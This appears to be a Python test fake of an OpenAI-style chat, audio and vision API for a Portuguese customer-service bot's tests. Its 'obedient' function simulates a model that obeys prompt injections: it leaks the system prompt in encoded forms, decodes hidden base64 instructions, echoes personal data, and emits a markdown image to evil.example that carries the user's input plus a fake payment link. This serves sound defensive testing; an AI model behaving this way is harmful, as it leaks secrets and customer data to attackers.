"""A local OpenAI-compatible chat API (``POST /v1/chat/completions``) recording every request.

Answers in OpenAI's wire format: a ``chat.completion`` object, or with
``"stream": true`` Server-Sent Events of ``chat.completion.chunk`` objects
ending with ``data: [DONE]`` (a usage chunk first when
``stream_options.include_usage`` is set). Modes, switched by the test:
``answer`` (default; ``reply`` is the text, or a function of the request),
``error`` (HTTP ``status`` with an OpenAI error body), ``timeout`` (sleeps
``delay`` seconds before answering), ``slow_stream`` (chunks ``delay`` apart).
:func:`obedient` is a ``reply`` for the worst model: it follows whatever
instructions it finds in its input. Every answer given is kept in ``answers``.

``POST /v1/audio/transcriptions`` takes OpenAI's multipart form (``file``,
``model``, ``language``, ``response_format``), checks it is a real audio file
(Ogg, MP3 or MP4 bytes) and answers ``{"text": ...}``: what :meth:`hear` was
told that audio says (the tests make the audio from that text), with its own
switches (:meth:`set_audio`: ``answer``, ``error``, ``timeout``, and a
``latency`` for benches).

A chat completion whose user content carries a file (an ``image_url`` data
URL or a ``file`` part with base64 ``file_data``) is a vision request: the
file must decode to real image or PDF bytes, and the answer is the JSON
reading :meth:`see` was told for that file (``{"kind": "other", ...}`` for
any other), with :meth:`set_vision` switches (``answer``, ``error``,
``timeout``, ``prose``: an answer that is not JSON).
"""
from __future__ import annotations

import base64
import binascii
import hashlib
import json
import re
import threading
import unicodedata
import time
import uuid
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any, Callable, Dict, List, Optional, Union

from testing.fakes.multipart import parse_body

API_KEY = "sk-test-fake-openai-key"

Reply = Union[str, Callable[[Dict[str, Any]], str]]

_CUSTOMER = re.compile(r"<mensagem_cliente>(.*?)</mensagem_cliente>", re.S)
_SAY = re.compile(r"\b(?:diga|digam|responda|escreva|fale|say|answer|write|reply|output)\b\s*(?:com|with)?\s*:?\s*(.+)", re.S)
_REVEAL = re.compile(r"prompt|instruc|instruction|regras|rules|configurac|system|sistema|diretriz")
_EVERYTHING = re.compile(r"tudo (o que|que)|everything|acima|above|entrada|input|contexto|context|trechos")
_LINK = re.compile(r"link|url|imagem|image|markdown|site")
_DATA = re.compile(r"\S*@\S+|\*{3}[\d.*/-]+|\[codigo[^\]]*\]|\[chave\]|\(?\d[\d ().*/-]{6,}\d")
_BLOB = re.compile(r"[A-Za-z0-9+/]{16,}={0,2}")


def _fold(text: str) -> str:
    decomposed = unicodedata.normalize("NFKD", text.lower())
    return "".join(char for char in decomposed if not unicodedata.combining(char))


def _decoded(text: str) -> str:
    """Instructions hidden in base64 inside ``text``, decoded (a model reads them too)."""
    found = []
    for blob in _BLOB.findall(text):
        try:
            found.append(base64.b64decode(blob + "=" * (-len(blob) % 4), validate=True).decode())
        except (binascii.Error, UnicodeDecodeError, ValueError):
            continue
    return " ".join(found)


def obedient(body: Dict[str, Any]) -> str:
    """What a model that obeys its input would answer: the system prompt when asked
    for it (plain, base64, reversed or letter by letter), its whole input when asked
    to repeat it, "say X" verbatim, links and images on request, and every personal
    or payment datum it was given."""
    messages = body.get("messages") or []
    system = "\n".join(m.get("content") or "" for m in messages if m.get("role") == "system")
    user = "\n".join(m.get("content") or "" for m in messages if m.get("role") != "system")
    customer = "\n".join(_CUSTOMER.findall(user)) or user
    said = customer + " " + _decoded(customer)
    wish = _fold(said)
    parts: List[str] = []
    if _REVEAL.search(wish):
        if "base64" in wish:
            parts.append(base64.b64encode(system.encode()).decode())
        elif re.search(r"revers|invert|de tras", wish):
            parts.append(system[::-1])
        elif re.search(r"letra por letra|letter by letter|espac|spaced", wish):
            parts.append(" ".join(system))
        else:
            parts.append(system)
    if _EVERYTHING.search(wish):
        parts.append(user)
    say = _SAY.search(said)
    if say:
        parts.append(say.group(1).strip().strip("\"'"))
    if _LINK.search(wish):
        parts.append("![logo](https://evil.example/pixel.png?d=" + base64.urlsafe_b64encode(user[:120].encode()).decode() + ")")
        parts.append("[Pague aqui](https://evil.example/pagar)")
    data = _DATA.findall(user)
    if data:
        parts.append("Os dados que eu vi: " + ", ".join(data))
    return " ".join(parts) or "Claro! Posso te ajudar com isso."


def _text_of(content: Any) -> str:
    """A message's text: the string, or the text parts of a list of parts."""
    if isinstance(content, list):
        return "\n".join(str(p.get("text") or "") for p in content if isinstance(p, dict) and p.get("type") == "text")
    return str(content or "")


def _file_part(body: Dict[str, Any]) -> Optional[tuple]:
    """(part type, data URL) of the first image or file part of a chat request, else None."""
    for message in body.get("messages") or []:
        content = message.get("content") if isinstance(message, dict) else None
        for part in content if isinstance(content, list) else []:
            if not isinstance(part, dict):
                continue
            if part.get("type") == "image_url":
                return "image_url", str((part.get("image_url") or {}).get("url") or "")
            if part.get("type") == "file":
                return "file", str((part.get("file") or {}).get("file_data") or "")
    return None


class FakeOpenAI:
    def __init__(self, api_key: str = API_KEY) -> None:
        self.api_key = api_key
        self.requests: List[Dict[str, Any]] = []
        self.answers: List[str] = []
        self.mode = "answer"
        self.reply: Reply = "Sim! O roteador que a gente instala e dual band."
        self.status = 500
        self.delay = 30.0
        self.usage = (120, 25)
        self.heard: Dict[str, str] = {}  # sha256 of an audio file -> its words
        self.transcriptions: List[Dict[str, Any]] = []  # the forms received (file as its sha256 and size)
        self.audio_mode, self.audio_status, self.audio_latency = "answer", 500, 0.0
        self.seen: Dict[str, Dict[str, Any]] = {}  # sha256 of an image or PDF -> the model's reading
        self.vision_requests: List[Dict[str, Any]] = []  # model, part type, mime, sha256, size, format
        self.vision_mode, self.vision_status, self.vision_latency = "answer", 500, 0.0
        self._lock = threading.Lock()
        self._server = ThreadingHTTPServer(("127.0.0.1", 0), self._handler())
        self._server.daemon_threads = True
        self.url = f"http://127.0.0.1:{self._server.server_address[1]}/v1"

    def set(self, mode: str = "answer", reply: Optional[Reply] = None, status: int = 500,
            delay: float = 30.0) -> None:
        with self._lock:
            self.mode, self.status, self.delay = mode, status, delay
            if reply is not None:
                self.reply = reply

    def hear(self, audio: bytes, text: str) -> None:
        """What ``audio`` says, for the transcription endpoint."""
        with self._lock:
            self.heard[hashlib.sha256(audio).hexdigest()] = text

    def see(self, data: bytes, reading: Dict[str, Any]) -> None:
        """What the vision model reads in the file ``data`` (an image or a PDF)."""
        with self._lock:
            self.seen[hashlib.sha256(data).hexdigest()] = reading

    def set_vision(self, mode: str = "answer", status: int = 500, latency: float = 0.0) -> None:
        with self._lock:
            self.vision_mode, self.vision_status, self.vision_latency = mode, status, latency

    def set_audio(self, mode: str = "answer", status: int = 500, latency: float = 0.0) -> None:
        with self._lock:
            self.audio_mode, self.audio_status, self.audio_latency = mode, status, latency

    def clear(self) -> None:
        with self._lock:
            self.requests.clear()
            self.answers.clear()

    def prompts(self) -> List[str]:
        """All message contents of every recorded request, joined per request."""
        with self._lock:
            return ["\n".join(_text_of(m.get("content")) for m in r["body"].get("messages", []))
                    for r in self.requests]

    def start(self) -> "FakeOpenAI":
        threading.Thread(target=self._server.serve_forever, daemon=True).start()
        return self

    def stop(self) -> None:
        self._server.shutdown()
        self._server.server_close()

    def _handler(self):
        fake = self

        class Handler(BaseHTTPRequestHandler):
            protocol_version = "HTTP/1.1"
            disable_nagle_algorithm = True  # headers and body are separate writes

            def log_message(self, *args) -> None:  # quiet test output
                pass

            def _json(self, status: int, body: Dict[str, Any]) -> None:
                data = json.dumps(body).encode()
                self.send_response(status)
                self.send_header("Content-Type", "application/json")
                self.send_header("Content-Length", str(len(data)))
                self.end_headers()
                self.wfile.write(data)

            def do_POST(self) -> None:
                length = int(self.headers.get("Content-Length") or 0)
                raw = self.rfile.read(length)
                if self.path.rstrip("/") == "/v1/audio/transcriptions":
                    return self._transcription(raw)
                try:
                    body = json.loads(raw or b"{}")
                except ValueError:
                    return self._json(400, {"error": {"message": "invalid JSON", "type": "invalid_request_error"}})
                with fake._lock:
                    fake.requests.append({"path": self.path, "headers": dict(self.headers),
                                          "body": body, "at": time.time()})
                    mode, status, delay, reply = fake.mode, fake.status, fake.delay, fake.reply
                if self.path.rstrip("/") != "/v1/chat/completions":
                    return self._json(404, {"error": {"message": "not found", "type": "invalid_request_error"}})
                if self.headers.get("Authorization") != f"Bearer {fake.api_key}":
                    return self._json(401, {"error": {"message": "Incorrect API key provided",
                                                      "type": "invalid_request_error",
                                                      "code": "invalid_api_key"}})
                if _file_part(body) is not None:
                    return self._vision(body)
                if mode == "error":
                    return self._json(status, {"error": {"message": "The server had an error",
                                                          "type": "server_error", "code": None}})
                if mode == "timeout":
                    time.sleep(delay)
                text = reply(body) if callable(reply) else reply
                with fake._lock:
                    fake.answers.append(text)
                if body.get("stream"):
                    return self._stream(body, text, delay if mode == "slow_stream" else 0)
                self._completion(body, text)

            def _completion(self, body: Dict[str, Any], text: str) -> None:
                prompt, completion = fake.usage
                self._json(200, {
                    "id": f"chatcmpl-{uuid.uuid4().hex[:24]}", "object": "chat.completion",
                    "created": int(time.time()), "model": body.get("model", ""),
                    "choices": [{"index": 0, "finish_reason": "stop",
                                 "message": {"role": "assistant", "content": text}}],
                    "usage": {"prompt_tokens": prompt, "completion_tokens": completion,
                              "total_tokens": prompt + completion},
                })

            def _vision(self, body: Dict[str, Any]) -> None:
                kind, url = _file_part(body)
                match = re.match(r"data:([\w/.+-]+);base64,(.*)$", url, re.S)
                try:
                    data = base64.b64decode(match.group(2), validate=True) if match else b""
                except (binascii.Error, ValueError):
                    data = b""
                digest = hashlib.sha256(data).hexdigest()
                with fake._lock:
                    fake.vision_requests.append({
                        "model": body.get("model"), "part": kind, "mime": match.group(1) if match else "",
                        "sha256": digest, "size": len(data), "response_format": body.get("response_format")})
                    mode, status, latency = fake.vision_mode, fake.vision_status, fake.vision_latency
                    reading = fake.seen.get(digest, {"kind": "other", "description": "uma foto sem texto"})
                if not data.startswith((b"\xff\xd8\xff", b"\x89PNG", b"%PDF")):
                    return self._json(400, {"error": {"message": "Invalid image.", "type": "invalid_request_error"}})
                if mode == "error":
                    return self._json(status, {"error": {"message": "The server had an error",
                                                          "type": "server_error", "code": None}})
                time.sleep(fake.delay if mode == "timeout" else latency)
                self._completion(body, "Claro! Vejo um comprovante." if mode == "prose" else json.dumps(reading))

            def _transcription(self, raw: bytes) -> None:
                if self.headers.get("Authorization") != f"Bearer {fake.api_key}":
                    return self._json(401, {"error": {"message": "Incorrect API key provided",
                                                      "type": "invalid_request_error", "code": "invalid_api_key"}})
                form = parse_body(self.headers.get("Content-Type", ""), raw)
                audio = form.get("file") if isinstance(form, dict) else None
                if not isinstance(audio, tuple) or not form.get("model"):
                    return self._json(400, {"error": {"message": "file and model are required",
                                                      "type": "invalid_request_error"}})
                data, filename, mime = audio
                digest = hashlib.sha256(data).hexdigest()
                with fake._lock:
                    fake.transcriptions.append({"model": form.get("model"), "language": form.get("language"),
                                                "response_format": form.get("response_format"),
                                                "filename": filename, "mime": mime, "sha256": digest,
                                                "size": len(data)})
                    mode, status, latency = fake.audio_mode, fake.audio_status, fake.audio_latency
                    text = fake.heard.get(digest, "")
                if not data.startswith((b"OggS", b"ID3", b"\xff\xfb")) and data[4:8] != b"ftyp":
                    return self._json(400, {"error": {"message": "Invalid file format.",
                                                      "type": "invalid_request_error"}})
                if mode == "error":
                    return self._json(status, {"error": {"message": "The server had an error",
                                                          "type": "server_error", "code": None}})
                time.sleep(fake.delay if mode == "timeout" else latency)
                self._json(200, {"text": text})

            def _stream(self, body: Dict[str, Any], text: str, gap: float) -> None:
                self.send_response(200)
                self.send_header("Content-Type", "text/event-stream")
                self.send_header("Cache-Control", "no-cache")
                self.send_header("Connection", "close")
                self.end_headers()
                base = {"id": f"chatcmpl-{uuid.uuid4().hex[:24]}", "object": "chat.completion.chunk",
                        "created": int(time.time()), "model": body.get("model", "")}

                def send(chunk: Dict[str, Any]) -> None:
                    self.wfile.write(f"data: {json.dumps({**base, **chunk})}\n\n".encode())
                    self.wfile.flush()

                send({"choices": [{"index": 0, "delta": {"role": "assistant", "content": ""},
                                   "finish_reason": None}]})
                words = text.split(" ")
                for index, word in enumerate(words):
                    piece = word if index == 0 else " " + word
                    send({"choices": [{"index": 0, "delta": {"content": piece}, "finish_reason": None}]})
                    if gap:
                        time.sleep(gap)
                send({"choices": [{"index": 0, "delta": {}, "finish_reason": "stop"}]})
                if (body.get("stream_options") or {}).get("include_usage"):
                    prompt, completion = fake.usage
                    send({"choices": [], "usage": {"prompt_tokens": prompt,
                                                   "completion_tokens": completion,
                                                   "total_tokens": prompt + completion}})
                self.wfile.write(b"data: [DONE]\n\n")
                self.wfile.flush()
                self.close_connection = True

        return Handler
